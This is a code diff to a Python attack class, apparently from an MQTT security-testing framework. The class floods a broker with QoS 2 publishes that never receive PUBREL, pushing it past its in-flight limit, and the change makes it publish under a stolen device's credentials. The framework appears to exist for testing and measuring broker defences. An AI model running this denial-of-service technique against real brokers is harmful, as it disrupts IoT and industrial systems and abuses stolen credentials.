@@ -29,13 +29,18 @@ class Qos2HalfOpenOptions(RatedOptions):
 
 
 class Qos2HalfOpen(Campaign[Qos2HalfOpenOptions]):
-    """Publishes at QoS 2 and never answers with PUBREL, so that the broker has to keep each of them."""
+    """Publishes at QoS 2 and never answers with PUBREL, so that the broker has to keep each of them.
+
+    They go to the topics of the device whose credentials were stolen, so that no other rule is in the way.
+    """
 
     kind: ClassVar[str] = "qos2_half_open"
     summary: ClassVar[str] = "QoS 2 half open: PUBLISH without PUBREL, up to and past the in-flight cap."
     options: ClassVar[type[AttackOptions]] = Qos2HalfOpenOptions
     control: ClassVar[Control] = Control.IN_FLIGHT_LIMIT
     technique: ClassVar[str] = "T0814"
+    robs_victim: ClassVar[bool] = True
+    aims: ClassVar[int] = 1
     wall_time: ClassVar[bool] = True
 
     def threshold(self, options: Qos2HalfOpenOptions) -> Threshold:
@@ -62,7 +67,7 @@ class Qos2HalfOpen(Campaign[Qos2HalfOpenOptions]):
             yield member.beat(self.pace(member.options))
             if member.over:
                 break
-            message = member.message(member.copy(), qos=2)
+            message = member.as_victim(qos=2)
             publish = message[0]
             data = frames.publish(publish.topic, publish.payload, 2, number, member.ground.modern)
             member.raw(data, message)
